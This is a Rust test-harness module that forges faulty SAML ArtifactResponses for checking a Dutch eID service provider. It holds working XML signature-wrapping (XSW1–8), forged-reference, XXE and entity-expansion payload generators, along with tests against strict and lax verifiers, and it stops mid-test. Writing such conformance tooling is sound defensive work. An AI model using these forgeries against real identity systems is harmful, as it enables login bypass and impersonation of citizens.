//! The mock TVS's forgeries: every deliberately faulty ArtifactResponse a DV must refuse (or, for
//! the parser tricks on the person's NameID, must read correctly), built from the conformant
//! parts in [`super`]. Each [`Fault`] is one published attack shape or one broken rule of eID
//! SAML 4.4, and each still carries what an attacker could really produce: the signatures that
//! are meant to verify do verify (for the wrapping shapes `tests/it/xmlsec.rs` shows it with
//! `xmlsec1`, reassembling the original where it sits inside the Signature).
//!
//! The shapes:
//! - signatures: removed (Assertion, message), a foreign key in `KeyInfo`, RSA-SHA1, two
//!   `SignedInfo`, a forged DigestValue in a comment, a forged Reference in `StatusDetail`
//!   (CVE-2024-45409), duplicate IDs, a forged statement in a `ds:Object` of the Signature;
//! - signature wrapping XSW1–XSW8 with SAML Raider's placements (XSW1/2 on the ArtifactResponse,
//!   which is the signed message here; XSW3–8 on the Assertion, the outer message re-signed);
//! - parser differentials: a DOCTYPE with internal entities, an external entity (XXE) pointing at
//!   the mock TVS's listener, entity expansion, a comment, processing instruction or CDATA
//!   splitting the BSN;
//! - conditions, statuses and EncryptedID variants.
//!
//! Pure: no state, no I/O.

use roxmltree::Document;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use time::OffsetDateTime;

use super::dsig::SignAlg;
use super::xmlenc::Content;
use super::{
    AssertionOptions, AssertionSpec, NS_DS, NS_SAML, NS_SAMLP, STATUS_AUTHN_FAILED,
    STATUS_NO_AUTHN_CONTEXT, STATUS_RESPONDER, SamlError, assertion, c14n, escape, outer, response,
    status_xml,
};
use crate::pki::SamlKey;

/// A deliberate fault in what the mock TVS sends, for testing a DV's checks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Fault {
    // --- Signatures
    /// The Assertion is changed after it was signed.
    TamperedSignature,
    /// The Assertion carries no signature.
    AssertionUnsigned,
    /// The ArtifactResponse carries no signature (the Response inside never has one).
    ResponseUnsigned,
    /// The Assertion is signed with a foreign key whose certificate, in `KeyInfo`, copies the
    /// TVS's subject.
    ForeignKey,
    /// RSA-SHA1 signatures with SHA-1 digests, on the message and the Assertion.
    Sha1Signature,
    /// The Assertion is changed after signing; its Signature holds the original `SignedInfo`
    /// and a second one whose Reference matches the changed content.
    TwoSignedInfo,
    /// The Assertion is changed after signing; the DigestValue reads
    /// `<!--forged-->original`, the comment holding the changed content's digest.
    DigestInComment,
    /// The Assertion is changed after signing; a forged `ds:Reference` with the changed
    /// content's digest sits earlier in the document, in `StatusDetail` (CVE-2024-45409).
    ForgedReference,
    /// An unsigned Assertion with the same ID as the signed one comes before it.
    DuplicateIds,
    /// The signed Assertion's Signature carries a `ds:Object` with a forged AttributeStatement
    /// naming another person (the second test patient): unsigned, since the enveloped transform
    /// leaves the whole Signature out of the digest.
    SignatureObject,
    // --- Signature wrapping (SAML Raider)
    /// Evil ArtifactResponse keeps the Signature; the original (unsigned) inside `ds:Signature`
    /// (in a `ds:Object`).
    Xsw1,
    /// Evil ArtifactResponse keeps the Signature; the original as the Signature's preceding
    /// sibling.
    Xsw2,
    /// An evil unsigned Assertion with a new ID before the signed one.
    Xsw3,
    /// An evil unsigned Assertion with the signed one inside it.
    Xsw4,
    /// The signed Assertion edited in place with a new ID, keeping its Signature; an unsigned
    /// copy of the original after it.
    Xsw5,
    /// As XSW5, the copy inside the evil Assertion's `ds:Signature` (in a `ds:Object`).
    Xsw6,
    /// `Extensions` before the Assertion holding an evil clone with the same ID.
    Xsw7,
    /// The Assertion edited in place with the same ID, keeping its Signature; the original in
    /// `ds:Object` under that Signature.
    Xsw8,
    // --- Parser differentials
    /// A DOCTYPE whose internal entity supplies the level of assurance.
    DoctypeEntities,
    /// A DOCTYPE whose external entity points at the mock TVS's listener (XXE).
    ExternalEntity,
    /// Nested entities, the "billion laughs" shape kept small (three levels of five, 125
    /// copies): the stimulus shows whether a DV expands nested entities at all, without making
    /// the vulnerable quirk a denial of service.
    EntityExpansion,
    /// A comment splits the BSN: `9999<!---->11533`.
    NameIdComment,
    /// A processing instruction splits the BSN.
    NameIdProcessingInstruction,
    /// Part of the BSN in a CDATA section.
    NameIdCdata,
    // --- Conditions and status
    /// SubjectConfirmationData@NotOnOrAfter has already passed.
    ExpiredAssertion,
    /// Conditions@NotBefore is in the future.
    NotYetValid,
    /// SubjectConfirmationData@InResponseTo names another AuthnRequest.
    WrongInResponseTo,
    /// No InResponseTo at all: an unsolicited response.
    Unsolicited,
    /// SubjectConfirmationData@Recipient is another service.
    WrongRecipient,
    /// The Audience names another DV.
    WrongAudience,
    /// No AudienceRestriction.
    MissingAudience,
    /// Response@Destination is another service.
    WrongDestination,
    /// Every Issuer names another TVS entity.
    WrongIssuer,
    /// A second, unsigned Assertion after the signed one (crewjam/saml CVE-2022-41912).
    TwoAssertions,
    /// Status Responder/AuthnFailed, yet an Assertion.
    StatusAuthnFailed,
    /// Status Responder/NoAuthnContext, yet an Assertion.
    StatusNoAuthnContext,
    /// Status Responder/RequestDenied, yet an Assertion.
    StatusRequestDenied,
    // --- Artifact
    /// An artifact resolved after its lifetime (15 minutes) by a lenient TVS: the Assertion
    /// carries the times of that 16-minute-old login. (The TVS's own refusal of a late or spent
    /// artifact, an ArtifactResponse without a message, is what a replay gets.)
    ExpiredArtifact,
    /// The artifact's SourceID is not the TVS's.
    UnknownSourceId,
    // --- EncryptedID
    /// RSA PKCS#1 v1.5 key transport.
    KeyTransportRsa15,
    /// EncryptedKey@Recipient names another DV.
    WrongKeyRecipient,
    /// EncryptedKey without Recipient.
    MissingKeyRecipient,
    /// The ciphertext decrypts to random bytes (valid padding).
    CorruptedCiphertext,
    /// The ciphertext's padding is invalid.
    BadPadding,
    /// EncryptedData without EncryptionMethod.
    MissingEncryptionMethod,
}

/// What the listener behind [`Fault::ExternalEntity`] answers; the forged message is signed
/// over it, so a DV that fetches the entity finds a valid signature.
pub const ENTITY_TEXT: &str = "koppeltest-external-entity";
/// Another TVS entity (test index 9001), for [`Fault::WrongIssuer`].
const OTHER_TVS: &str = "urn:nl-eid-gdi:1.0:RD:00000009999999999000:entities:9001";
/// The person [`Fault::SignatureObject`] smuggles in: the second test patient.
const OTHER_PERSON: &str = "999910048";
/// Another DV (test index 9999).
const OTHER_DV: &str = "urn:nl-eid-gdi:1.0:DV:00000009999999999999:entities:9999";
const STATUS_REQUEST_DENIED: &str = "urn:oasis:names:tc:SAML:2.0:status:RequestDenied";

impl Fault {
    pub fn name(self) -> String {
        serde_json::to_value(self)
            .ok()
            .and_then(|v| v.as_str().map(str::to_string))
            .unwrap_or_default()
    }

    pub fn parse(s: &str) -> Option<Fault> {
        serde_json::from_value(serde_json::Value::String(s.to_string())).ok()
    }

    /// The faults that change what the message says rather than how it is built.
    pub fn apply(self, spec: &mut AssertionSpec, now: OffsetDateTime) {
        match self {
            Fault::WrongAudience => spec.audience = OTHER_DV.into(),
            Fault::MissingAudience => spec.audience.clear(),
            Fault::WrongInResponseTo => spec.in_response_to = crate::ids::saml_id(),
            Fault::Unsolicited => spec.in_response_to.clear(),
            Fault::ExpiredAssertion => spec.not_on_or_after = now - time::Duration::minutes(5),
            Fault::NotYetValid => spec.not_before = now + time::Duration::minutes(10),
            Fault::WrongRecipient => spec.recipient = "https://dva.other.example/saml/acs".into(),
            Fault::WrongDestination => {
                spec.destination = "https://dva.other.example/saml/acs".into()
            }
            Fault::WrongIssuer => spec.tvs_entity = OTHER_TVS.into(),
            Fault::ExpiredArtifact => {
                // The login happened a lifetime (15 minutes) and more ago; a lenient TVS still
                // resolves the artifact, and the Assertion carries the old times.
                spec.issued = now - time::Duration::minutes(16);
                spec.not_before = spec.issued;
                spec.not_on_or_after = spec.issued + time::Duration::minutes(2);
            }
            _ => {}
        }
    }

    /// The message handle's SourceID the artifact carries: the TVS's, or for
    /// [`Fault::UnknownSourceId`] another entity's.
    pub fn artifact_issuer(self, tvs_entity: &str) -> String {
        match self {
            Fault::UnknownSourceId => OTHER_TVS.to_string(),
            _ => tvs_entity.to_string(),
        }
    }
}

/// What some forgeries need besides the spec.
#[derive(Debug, Clone, Copy, Default)]
pub struct Extras<'a> {
    /// The impostor key for [`Fault::ForeignKey`]: its certificate copies the TVS's subject.
    pub impostor: Option<&'a SamlKey>,
    /// The URL of the mock TVS's external-entity listener, for [`Fault::ExternalEntity`].
    pub entity_url: Option<&'a str>,
}

/// Builds the ArtifactResponse for `spec` (already edited by [`Fault::apply`]), conformant or
/// with `fault`, in a SOAP envelope.
pub fn artifact_response(
    spec: &AssertionSpec,
    key: &SamlKey,
    fault: Option<Fault>,
    extras: Extras<'_>,
) -> Result<String, SamlError> {
    let Some(fault) = fault else {
        return super::artifact_response(spec, key, |a| a);
    };
    if spec.status != super::LoginStatus::Success {
        // A cancel or NoAuthnContext carries no Assertion to forge.
        return super::artifact_response(spec, key, |a| a);
    }
    let mut options = AssertionOptions::conformant(spec);
    let mut outer_alg = SignAlg::RsaSha256;
    let mut outer_signed = true;
    let mut status = status_xml(spec.status);
    let mut extensions = String::new();
    let mut assertion_key = key;
    // Split the BSN after its fourth character (a char boundary, whatever the form said),
    // then escape each half.
    let split = spec
        .bsn
        .char_indices()
        .nth(4)
        .map_or(spec.bsn.len(), |(i, _)| i);
    let (head, tail) = (escape(&spec.bsn[..split]), escape(&spec.bsn[split..]));
    match fault {
        Fault::AssertionUnsigned => options.signed = false,
        Fault::ResponseUnsigned => outer_signed = false,
        Fault::ForeignKey => {
            assertion_key = extras.impostor.ok_or_else(|| {
                SamlError::Invalid("the foreign-key fault needs an impostor key".into())
            })?
        }
        Fault::Sha1Signature => {
            options.alg = SignAlg::RsaSha1;
            outer_alg = SignAlg::RsaSha1;
        }
        Fault::NameIdComment => options.name_id_content = format!("{head}<!---->{tail}"),
        Fault::NameIdProcessingInstruction => {
            options.name_id_content = format!("{head}<?kt split?>{tail}")
        }
        Fault::NameIdCdata => options.name_id_content = format!("{head}<![CDATA[{tail}]]>"),
        Fault::KeyTransportRsa15 => options.encryption.rsa_1_5 = true,
        Fault::WrongKeyRecipient => options.encryption.recipient = Some(OTHER_DV.into()),
        Fault::MissingKeyRecipient => options.encryption.recipient = None,
        Fault::CorruptedCiphertext => options.encryption.content = Content::Corrupted,
        Fault::BadPadding => options.encryption.content = Content::BadPadding,
        Fault::MissingEncryptionMethod => options.encryption.no_method = true,
        Fault::StatusAuthnFailed => status = failure_status(STATUS_AUTHN_FAILED),
        Fault::StatusNoAuthnContext => status = failure_status(STATUS_NO_AUTHN_CONTEXT),
        Fault::StatusRequestDenied => status = failure_status(STATUS_REQUEST_DENIED),
        _ => {}
    }
    let signed = assertion(spec, assertion_key, &options)?;
    let id = options.id.clone();
    let body = match fault {
        Fault::TamperedSignature => tamper(&signed, spec),
        Fault::TwoSignedInfo => {
            let changed = tamper(&signed, spec);
            let forged = signed_info_for(&changed)?;
            insert_after_first(&changed, "</ds:SignedInfo>", &forged)?
        }
        Fault::DigestInComment => {
            let changed = tamper(&signed, spec);
            let original = digest_value(&changed)?;
            let forged = digest_of(&changed)?;
            changed.replacen(
                &format!("<ds:DigestValue>{original}</ds:DigestValue>"),
                &format!("<ds:DigestValue><!--{forged}-->{original}</ds:DigestValue>"),
                1,
            )
        }
        Fault::ForgedReference => {
            let changed = tamper(&signed, spec);
            let reference = element_text(&changed, |n| {
                n.tag_name().namespace() == Some(NS_DS) && n.tag_name().name() == "Reference"
            })?;
            let original = digest_value(&changed)?;
            let forged = reference
                .replacen(
                    "<ds:Reference ",
                    &format!("<ds:Reference xmlns:ds=\"{NS_DS}\" "),
                    1,
                )
                .replacen(&original, &digest_of(&changed)?, 1);
            status = status.replacen(
                "</samlp:Status>",
                &format!("<samlp:StatusDetail>{forged}</samlp:StatusDetail></samlp:Status>"),
                1,
            );
            changed
        }
        Fault::DuplicateIds => format!("{}{signed}", evil(&signed, spec, Some(&id))?),
        Fault::SignatureObject => {
            let name_id = format!(
                "<saml:NameID xmlns:saml=\"{NS_SAML}\" Format=\"urn:oasis:names:tc:SAML:2.0:nameid-format:persistent\" \
                 NameQualifier=\"{}\">{OTHER_PERSON}</saml:NameID>",
                super::NAME_QUALIFIER_LEGACY_BSN
            );
            let forged = super::xmlenc::encrypt_with(
                &name_id,
                &spec.encryption_cert,
                &super::xmlenc::EncryptOptions::for_recipient(&spec.encrypt_for),
            )?;
            let object = format!(
                "<ds:Object><saml:AttributeStatement xmlns:saml=\"{NS_SAML}\"><saml:Attribute Name=\"{}\">\
                 <saml:AttributeValue><saml:EncryptedID>{forged}</saml:EncryptedID></saml:AttributeValue>\
                 </saml:Attribute></saml:AttributeStatement></ds:Object>",
                super::ATTR_ACTING_SUBJECT
            );
            insert_before_last(&signed, "</ds:Signature>", &object)?
        }
        Fault::TwoAssertions => format!("{signed}{}", evil(&signed, spec, None)?),
        Fault::Xsw3 => format!("{}{signed}", evil(&signed, spec, None)?),
        Fault::Xsw4 => {
            let evil = evil(&signed, spec, None)?;
            insert_before_last(&evil, "</saml:Assertion>", &signed)?
        }
        Fault::Xsw5 | Fault::Xsw6 => {
            // Edited in place: a new ID and evil content, the original Signature kept.
            let new_id = crate::ids::saml_id();
            let edited = mark_evil(
                &signed.replacen(&format!("ID=\"{id}\""), &format!("ID=\"{new_id}\""), 1),
                spec,
            );
            let copy = strip_signature(&signed)?;
            if fault == Fault::Xsw5 {
                format!("{edited}{copy}")
            } else {
                // In a ds:Object, so the Signature stays schema-valid (xmlsec1 refuses other
                // children there); unlike XSW8 the evil Assertion has a new ID.
                insert_before_last(
                    &edited,
                    "</ds:Signature>",
                    &format!("<ds:Object>{copy}</ds:Object>"),
                )?
            }
        }
        Fault::Xsw7 => {
            extensions = format!(
                "<samlp:Extensions>{}</samlp:Extensions>",
                evil(&signed, spec, Some(&id))?
            );
            signed
        }
        Fault::Xsw8 => {
            let edited = mark_evil(&signed, spec);
            let copy = strip_signature(&signed)?;
            insert_before_last(
                &edited,
                "</ds:Signature>",
                &format!("<ds:Object>{copy}</ds:Object>"),
            )?
        }
        _ => signed,
    };
    let mut expanded = None;
    match fault {
        Fault::EntityExpansion => {
            let text = "lol".repeat(125);
            status = with_message(&status, &text);
            expanded = Some(text);
        }
        Fault::ExternalEntity => status = with_message(&status, ENTITY_TEXT),
        _ => {}
    }
    let response = response(spec, &status, &extensions, &body);
    let message = outer(spec, &response, key, outer_alg, outer_signed)?;
    match fault {
        Fault::Xsw1 | Fault::Xsw2 => wrap_message(&message, fault == Fault::Xsw1),
        Fault::DoctypeEntities => {
            let loa = spec.loa.uri();
            let replaced = message.replacen(
                &format!(">{loa}</saml:AuthnContextClassRef>"),
                ">&loa;</saml:AuthnContextClassRef>",
                1,
            );
            Ok(format!(
                "<!DOCTYPE soapenv:Envelope [<!ENTITY loa \"{loa}\">]>{replaced}"
            ))
        }
        Fault::EntityExpansion => {
            let text = expanded.unwrap_or_default();
            let replaced = message.replacen(&text, "&lol3;", 1);
            let mut dtd = String::from("<!ENTITY lol0 \"lol\">");
            for level in 1..=3 {
                dtd.push_str(&format!(
                    "<!ENTITY lol{level} \"{}\">",
                    format!("&lol{};", level - 1).repeat(5)
                ));
            }
            Ok(format!("<!DOCTYPE soapenv:Envelope [{dtd}]>{replaced}"))
        }
        Fault::ExternalEntity => {
            let url = extras.entity_url.ok_or_else(|| {
                SamlError::Invalid("the external-entity fault needs a listener URL".into())
            })?;
            let replaced = message.replacen(
                &format!(">{ENTITY_TEXT}</samlp:StatusMessage>"),
                ">&xxe;</samlp:StatusMessage>",
                1,
            );
            Ok(format!(
                "<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM \"{}\">]>{replaced}",
                escape(url)
            ))
        }
        _ => Ok(message),
    }
}

/// An ArtifactResponse whose message is gone: what the TVS answers for an artifact it no longer
/// knows (SAML bindings §3.6.6: Success, no message).
pub fn empty_artifact_response(spec: &AssertionSpec, key: &SamlKey) -> Result<String, SamlError> {
    outer(spec, "", key, SignAlg::RsaSha256, true)
}

fn failure_status(second: &str) -> String {
    format!(
        "<samlp:Status><samlp:StatusCode Value=\"{STATUS_RESPONDER}\"><samlp:StatusCode Value=\"{second}\">\
         </samlp:StatusCode></samlp:StatusCode></samlp:Status>"
    )
}

fn with_message(status: &str, text: &str) -> String {
    status.replacen(
        "</samlp:Status>",
        &format!("<samlp:StatusMessage>{text}</samlp:StatusMessage></samlp:Status>"),
        1,
    )
}

/// The existing fault: the ServiceUUID changed after signing.
fn tamper(assertion: &str, spec: &AssertionSpec) -> String {
    assertion.replace(&spec.service_uuid, &crate::ids::uuid_v4())
}

/// Evil content: another ServiceUUID and transient NameID.
fn mark_evil(assertion: &str, spec: &AssertionSpec) -> String {
    let doc_free = tamper(assertion, spec);
    match doc_free.find("nameid-format:transient\">") {
        Some(at) => {
            let start = at + "nameid-format:transient\">".len();
            let end = doc_free[start..].find('<').map_or(start, |e| start + e);
            format!(
                "{}{}{}",
                &doc_free[..start],
                crate::ids::random_hex(16),
                &doc_free[end..]
            )
        }
        None => doc_free,
    }
}

/// An unsigned evil copy of `signed`: with `same_id` it keeps that ID, else a new one.
fn evil(signed: &str, spec: &AssertionSpec, same_id: Option<&str>) -> Result<String, SamlError> {
    let unsigned = strip_signature(signed)?;
    let doc = parse(&unsigned)?;
    let id = doc.root_element().attribute("ID").unwrap_or("").to_string();
    let new_id = same_id.map_or_else(crate::ids::saml_id, str::to_string);
    Ok(mark_evil(
        &unsigned.replacen(&format!("ID=\"{id}\""), &format!("ID=\"{new_id}\""), 1),
        spec,
    ))
}

fn parse(xml: &str) -> Result<Document<'_>, SamlError> {
    Document::parse(xml).map_err(|e| SamlError::Xml(e.to_string()))
}

/// `xml` without the root element's direct `ds:Signature`.
fn strip_signature(xml: &str) -> Result<String, SamlError> {
    let doc = parse(xml)?;
    let sig = doc
        .root_element()
        .children()
        .find(|c| c.tag_name().namespace() == Some(NS_DS) && c.tag_name().name() == "Signature")
        .ok_or_else(|| SamlError::Invalid("nothing to strip: no Signature".into()))?;
    let r = sig.range();
    Ok(format!("{}{}", &xml[..r.start], &xml[r.end..]))
}

/// The source text of the first element matching `pred`.
fn element_text(
    xml: &str,
    pred: impl Fn(roxmltree::Node<'_, '_>) -> bool,
) -> Result<String, SamlError> {
    let doc = parse(xml)?;
    let node = doc
        .descendants()
        .find(|n| n.is_element() && pred(*n))
        .ok_or_else(|| SamlError::Invalid("element to forge not found".into()))?;
    Ok(xml[node.range()].to_string())
}

/// The (first) DigestValue as written.
fn digest_value(assertion: &str) -> Result<String, SamlError> {
    let doc = parse(assertion)?;
    doc.descendants()
        .find(|n| n.tag_name().name() == "DigestValue")
        .and_then(|n| n.text())
        .map(str::to_string)
        .ok_or_else(|| SamlError::Invalid("no DigestValue".into()))
}

/// The digest a Reference to the (changed) Assertion would need: SHA-256 over its exclusive
/// c14n without its Signature.
fn digest_of(assertion: &str) -> Result<String, SamlError> {
    use base64::Engine;
    let doc = parse(assertion)?;
    let root = doc.root_element();
    let sig = root
        .children()
        .find(|c| c.tag_name().namespace() == Some(NS_DS) && c.tag_name().name() == "Signature")
        .map(|s| s.id());
    let digest = aws_lc_rs::digest::digest(
        &aws_lc_rs::digest::SHA256,
        c14n::exclusive(root, sig).as_bytes(),
    );
    Ok(base64::engine::general_purpose::STANDARD.encode(digest.as_ref()))
}

/// A second SignedInfo for [`Fault::TwoSignedInfo`]: the first one's text with the changed
/// content's digest.
fn signed_info_for(changed: &str) -> Result<String, SamlError> {
    let si = element_text(changed, |n| {
        n.tag_name().namespace() == Some(NS_DS) && n.tag_name().name() == "SignedInfo"
    })?;
    let original = digest_value(changed)?;
    Ok(si.replacen(&original, &digest_of(changed)?, 1))
}

fn insert_after_first(xml: &str, marker: &str, insert: &str) -> Result<String, SamlError> {
    let at = xml
        .find(marker)
        .ok_or_else(|| SamlError::Invalid(format!("forge: {marker} not found")))?
        + marker.len();
    Ok(format!("{}{insert}{}", &xml[..at], &xml[at..]))
}

fn insert_before_last(xml: &str, marker: &str, insert: &str) -> Result<String, SamlError> {
    let at = xml
        .rfind(marker)
        .ok_or_else(|| SamlError::Invalid(format!("forge: {marker} not found")))?;
    Ok(format!("{}{insert}{}", &xml[..at], &xml[at..]))
}

/// XSW1 (`inside`) and XSW2 on the signed ArtifactResponse: an evil copy with a new ID keeps
/// the Signature; the original, its Signature removed, goes inside that Signature in a
/// `ds:Object` (XSW1) or just before it (XSW2).
fn wrap_message(message: &str, inside: bool) -> Result<String, SamlError> {
    let doc = parse(message)?;
    let outer = doc
        .descendants()
        .find(|n| {
            n.tag_name().namespace() == Some(NS_SAMLP) && n.tag_name().name() == "ArtifactResponse"
        })
        .ok_or_else(|| SamlError::Invalid("no ArtifactResponse to wrap".into()))?;
    let id = outer.attribute("ID").unwrap_or("").to_string();
    let original = &message[outer.range()];
    // The original keeps its namespace declarations: it is moved, not re-rendered.
    let copy = strip_signature(original)?;
    let evil_id = crate::ids::saml_id();
    let evil = original.replacen(&format!("ID=\"{id}\""), &format!("ID=\"{evil_id}\""), 1);
    // The message's own Signature (the Assertion further down has another).
    let sig = {
        let doc = parse(&evil)?;
        let sig = doc
            .root_element()
            .children()
            .find(|c| c.tag_name().namespace() == Some(NS_DS) && c.tag_name().name() == "Signature")
            .ok_or_else(|| SamlError::Invalid("no Signature to wrap".into()))?;
        sig.range()
    };
    let evil = if inside {
        // In a ds:Object, so the Signature stays schema-valid (xmlsec1 refuses other children).
        let at = sig.end - "</ds:Signature>".len();
        format!(
            "{}<ds:Object>{copy}</ds:Object>{}",
            &evil[..at],
            &evil[at..]
        )
    } else {
        format!("{}{copy}{}", &evil[..sig.start], &evil[sig.start..])
    };
    let r = outer.range();
    Ok(format!(
        "{}{evil}{}",
        &message[..r.start],
        &message[r.end..]
    ))
}

#[cfg(test)]
mod tests {
    //! Every fault against the strict SP (refused, or for the NameID splits read right) and
    //! against the one weakness that lets it through: the stimuli are what they claim to be.

    use super::*;
    use crate::pki::Pki;
    use crate::saml::{
        AssertionPolicy, Loa, LoginFailure, LoginStatus, SpLax, consume_artifact_response,
    };

    const TVS: &str = "urn:nl-eid-gdi:1.0:RD:00000009999999999000:entities:9000";
    const ACS: &str = "https://dva/acs";

    struct Keys {
        tvs: std::sync::Arc<SamlKey>,
        impostor: std::sync::Arc<SamlKey>,
        dv_enc: std::sync::Arc<SamlKey>,
    }

    fn keys() -> Keys {
        let pki = Pki::generate().unwrap();
        Keys {
            tvs: pki.saml_key("tvs-signing").unwrap(),
            impostor: pki.saml_impostor("tvs-signing").unwrap(),
            dv_enc: pki.saml_key("dv-enc").unwrap(),
        }
    }

    fn spec(k: &Keys, fault: Fault) -> AssertionSpec {
        let now = OffsetDateTime::now_utc();
        let mut spec = AssertionSpec {
            tvs_entity: TVS.into(),
            audience: "urn:dv".into(),
            recipient: ACS.into(),
            destination: ACS.into(),
            in_response_to: "_req".into(),
            artifact_resolve_id: "_ar".into(),
            loa: Loa::Substantial,
            bsn: "999911533".into(),
            service_uuid: "svc-uuid-1".into(),
            status: LoginStatus::Success,
            issued: now,
            not_before: now,
            not_on_or_after: now + time::Duration::minutes(2),
            encrypt_for: "urn:dv".into(),
            encryption_cert: k.dv_enc.cert_der.clone(),
        };
        fault.apply(&mut spec, now);
        spec
    }

    fn consume(k: &Keys, xml: &str, lax: SpLax) -> Result<crate::saml::Login, LoginFailure> {
        let certs = vec![k.tvs.cert_der.clone()];
        let policy = AssertionPolicy {
            idp_signing_certs: &certs,
            idp_entity: TVS,
            own_entity: "urn:dv",
            acs_url: ACS,
            expected_in_response_to: "_req",
            expected_artifact_resolve_id: "_ar",
            min_loa: Loa::Substantial,
            decryption_key: &k.dv_enc,
            now: OffsetDateTime::now_utc(),
            check_signatures: true,
            check_audience: true,
            check_loa: true,
            check_subject_confirmation: true,
            lax,
        };
        consume_artifact_response(xml, &policy)
    }

    /// The weakness that lets `fault` through, as the simulated DVA's quirk sets it.
    fn weakness(fault: Fault) -> SpLax {
        let mut lax = SpLax::default();
        match fault {
            Fault::TamperedSignature => unreachable!("no partial weakness: signatures off"),
            Fault::SignatureObject => {
                lax.signature.objects_allowed = true;
                lax.data_from_descendants = true;
            }
            Fault::AssertionUnsigned => lax.assertion_signature_optional = true,
            Fault::ResponseUnsigned => lax.message_signature_optional = true,
            Fault::ForeignKey => lax.signature.key_info_trusted = true,
            Fault::Sha1Signature => lax.signature.sha1 = true,
            Fault::TwoSignedInfo => lax.signature.signed_info_split = true,
            Fault::DigestInComment => lax.signature.digest_first_child = true,
            Fault::ForgedReference => lax.signature.reference_searched = true,
            Fault::DuplicateIds
            | Fault::Xsw1
            | Fault::Xsw2
            | Fault::Xsw3
            | Fault::Xsw4
            | Fault::Xsw5
            | Fault::Xsw6
            | Fault::Xsw7
            | Fault::Xsw8 => lax.signature_detached = true,
            Fault::DoctypeEntities | Fault::EntityExpansion | Fault::ExternalEntity => {
                lax.doctype_accepted = true
            }
            Fault::NameIdComment | Fault::NameIdProcessingInstruction | Fault::NameIdCdata => {
                lax.name_id_by_string_search = true
            }
            Fault::ExpiredAssertion | Fault::ExpiredArtifact => lax.expiry_unchecked = true,
            Fault::NotYetValid => lax.not_before_unchecked = true,
            Fault::WrongInResponseTo => lax.in_response_to_unchecked = true,
            Fault::Unsolicited => lax.unsolicited_accepted = true,
            Fault::WrongRecipient => lax.recipient_unchecked = true,
            Fault::WrongAudience => unreachable!("check_audience off"),
            Fault::MissingAudience => lax.audience_optional = true,
            Fault::WrongDestination => lax.destination_unchecked = true,
            Fault::WrongIssuer => lax.issuer_unchecked = true,
            Fault::TwoAssertions => lax.last_assertion_read = true,
            Fault::StatusAuthnFailed | Fault::StatusNoAuthnContext | Fault::StatusRequestDenied => {
                lax.status_unchecked = true
            }
            Fault::UnknownSourceId => unreachable!("refused before resolution"),
            Fault::KeyTransportRsa15 => lax.decryption.rsa_1_5 = true,
            Fault::WrongKeyRecipient | Fault::MissingKeyRecipient => {
                lax.decryption.recipient_unchecked = true
            }
            Fault::MissingEncryptionMethod => lax.decryption.method_assumed = true,
            Fault::CorruptedCiphertext | Fault::BadPadding => unreachable!("never decrypts"),
        }
        lax
    }

    fn build(k: &Keys, fault: Fault, xxe_answer: bool) -> String {
        let xml = artifact_response(
            &spec(k, fault),
            &k.tvs,
            Some(fault),
            Extras {
                impostor: Some(&k.impostor),
                entity_url: Some("https://tvs.test/entity/x"),
            },
        )
        .unwrap_or_else(|e| panic!("{fault:?}: {e}"));
        if xxe_answer {
            // What a DV that resolves external entities makes of it.
            xml.replace(
                "SYSTEM \"https://tvs.test/entity/x\"",
                &format!("\"{ENTITY_TEXT}\""),
            )
        } else {
            xml
        }
    }

    #[test]
    fn every_refused_fault_is_refused_strictly_and_passes_its_weakness() {
        let k = keys();
        use Fault::*;
        for fault in [
            AssertionUnsigned,
            ResponseUnsigned,
            ForeignKey,
            Sha1Signature,
            TwoSignedInfo,
            DigestInComment,
            ForgedReference,
            DuplicateIds,
            SignatureObject,
            Xsw1,
            Xsw2,
            Xsw3,
            Xsw4,
            Xsw5,
            Xsw6,
            Xsw7,
            Xsw8,
            DoctypeEntities,
            EntityExpansion,
            ExternalEntity,
            ExpiredAssertion,
            ExpiredArtifact,
            NotYetValid,
            WrongInResponseTo,
            Unsolicited,
            WrongRecipient,
            MissingAudience,
            WrongDestination,
            WrongIssuer,
            TwoAssertions,
            StatusAuthnFailed,
            StatusNoAuthnContext,
            StatusRequestDenied,
            KeyTransportRsa15,
            WrongKeyRecipient,
            MissingKeyRecipient,
            MissingEncryptionMethod,
        ] {
            let xml = build(&k, fault, fault == ExternalEntity);
            let strict = consume(&k, &xml, SpLax::default());
            assert!(strict.is_err(), "{fault:?} was accepted by the strict SP");
            let lax = consume(&k, &xml, weakness(fault));
            let person = if fault == SignatureObject {
                OTHER_PERSON
            } else {
                "999911533"
            };
            assert!(
                lax.as_ref().is_ok_and(|l| l.bsn == person),
                "{fault:?} did not pass its weakness: {lax:?}"
            );
        }
    }

    #[test]
    fn the_name_id_splits_are_read_whole_strictly_and_cut_by_string_search() {
        let k = keys();
        for fault in [
            Fault::NameIdComment,
            Fault::NameIdProcessingInstruction,
            Fault::NameIdCdata,
        ] {
            let xml = build(&k, fault, false);
            let strict = consume(&k, &xml, SpLax::default()).unwrap();
            assert_eq!(strict.bsn, "999911533", "{fault:?}");
            let cut = consume(&k, &xml, weakness(fault)).unwrap();
            assert_eq!(cut.bsn, "9999", "{fault:?}");
        }
    }

    #[test]
    fn corrupted_content_and_bad_padding_fail_to_decrypt_for_different_reasons() {
        let k = keys();
        let corrupted = consume(
            &k,
            &build(&k, Fault::CorruptedCiphertext, false),
            SpLax::default(),
        )
        .unwrap_err();
        let padding =
            consume(&k, &build(&k, Fault::BadPadding, false), SpLax::default()).unwrap_err();
        // Both refused; the DV's own reasons differ, which is why it must not tell them apart
        // to the PGO (the simulated DVA says "inloggen mislukt" for both).
        assert_ne!(corrupted.to_string(), padding.to_string());
        assert!(padding.to_string().contains("padding"), "{padding}");
    }

    #[test]
    fn the_conformant_response_and_the_tampered_one() {
        let k = keys();
        let s = spec(&k, Fault::TamperedSignature);
        let ok = artifact_response(&s, &k.tvs, None, Extras::default()).unwrap();
        assert_eq!(consume(&k, &ok, SpLax::default()).unwrap().bsn, "999911533");
        let bad = build(&k, Fault::TamperedSignature, false);
        let err = consume(&k, &bad, SpLax::default()).unwrap_err();
        assert!(err.to_string().contains("digest mismatch"), "{err}");
    }

    #[test]
    fn an_unknown_source_id_is_not_the_tvs_sha1() {
        assert_eq!(Fault::UnknownSourceId.artifact_issuer(TVS), OTHER_TVS);
        assert_eq!(Fault::Xsw1.artifact_issuer(TVS), TVS);
        let ours = crate::saml::new_artifact(TVS);
